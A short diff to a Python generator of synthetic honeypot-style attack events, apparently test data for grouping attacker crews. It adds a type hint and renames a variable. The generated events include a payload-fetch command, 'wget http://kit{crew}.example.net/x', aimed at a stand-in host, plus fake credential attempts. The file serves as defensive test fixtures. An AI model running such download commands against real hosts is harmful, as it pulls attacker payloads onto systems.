@@ -95,11 +95,11 @@ def crews(draw: random.Random) -> Iterator[Event]:
         for number in range(size):
             attacker = f"198.51.{crew}.{draw.randrange(250)}"
             at = DAY * (begin + draw.randrange(width))
-            shown = [command(f"wget http://kit{crew}.example.net/x")] if number < size - 2 else []
+            shown: list[Payload] = [command(f"wget http://kit{crew}.example.net/x")] if number < size - 2 else []
             shown += [password(f"user{crew}{one}", f"secret-{crew}{one}") for one in draw.sample(range(6), 5)]
             shown += [password(f"list{one}", "listed") for one in draw.sample(range(6), draw.choice([0, 5]))]
             shown += [command(f"do{crew}{'abcdefghijklmn'[one]}x --now") for one in range(draw.choice([0, 4, 14]))]
-            shown += [make for make in (hassh(f"tool{crew % 2}"), file(f"{crew % 2}" * 64)) if draw.random() < 0.5]
+            shown += [one for one in (hassh(f"tool{crew % 2}"), file(f"{crew % 2}" * 64)) if draw.random() < 0.5]
             for payload in shown:
                 yield event(attacker, payload, at)
 
